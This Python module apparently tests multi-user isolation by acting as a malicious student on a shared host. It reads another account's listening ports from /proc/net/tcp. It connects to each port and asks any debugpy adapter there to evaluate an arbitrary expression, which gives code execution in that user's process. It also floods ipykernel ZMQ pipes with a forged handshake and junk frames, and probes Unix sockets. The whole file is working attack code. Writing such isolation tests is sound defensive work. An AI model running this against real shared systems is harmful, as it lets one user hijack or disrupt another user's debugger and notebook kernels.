"""What a student with bad intentions does to a neighbour's TCP ports; run it as that student."""

from __future__ import annotations

import contextlib
import json
import socket
from pathlib import Path
from typing import Any

_LISTEN = "0A"
_ZMTP = (
    b"\xff\x00\x00\x00\x00\x00\x00\x00\x01\x7f\x03\x00NULL"
    + bytes(48)
    + b"\x04\x19\x05READY\x0bSocket-Type\x00\x00\x00\x04PUSH"
)


def tcp_listeners(uid: int) -> list[int]:
    """Ports that a process of this account's made; every account of the host can read this. A student's own port, which
    root bound, is root's in this list.
    """
    found = []
    for name in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{name}").read_text(encoding="ascii").splitlines()[1:]:
            fields = line.split()
            if fields[3] == _LISTEN and int(fields[7]) == uid:
                found.append(int(fields[1].rpartition(":")[2], 16))
    return sorted(found)


def attack(uid: int, paths: list[str], expression: str) -> list[str]:
    """Whatever accepts a connection: every TCP port of the account's, and the unix sockets among `paths`."""
    reached = []
    for port in tcp_listeners(uid):
        for one in (_debug, _push):
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=3) as connection:
                one(connection, expression)
                reached.append(str(port))
    for path in paths:
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
            reached.append(path)
    return reached


def _debug(connection: socket.socket, expression: str) -> None:
    """Attach to debugpy and have it evaluate."""
    said = b""
    _ask(connection, 1, "initialize", adapterID="debugpy")
    _ask(connection, 2, "attach")
    with contextlib.suppress(OSError):
        while b'"initialized"' not in said and (part := connection.recv(65536)):
            said += part
    _ask(connection, 3, "configurationDone")
    _ask(connection, 4, "evaluate", expression=expression, context="repl")
    with contextlib.suppress(OSError):
        while b'"evaluate"' not in said and (part := connection.recv(65536)):
            said += part


def _ask(connection: socket.socket, number: int, command: str, **arguments: Any) -> None:
    request = {"seq": number, "type": "request", "command": command, "arguments": arguments}
    content = json.dumps(request).encode()
    connection.sendall(b"Content-Length: %d\r\n\r\n%s" % (len(content), content))


def _push(connection: socket.socket, _expression: str) -> None:
    """Messages for ipykernel's pipe that are none of its children's."""
    connection.sendall(_ZMTP)
    connection.sendall(b"\x00\x04junk" * 20_000)
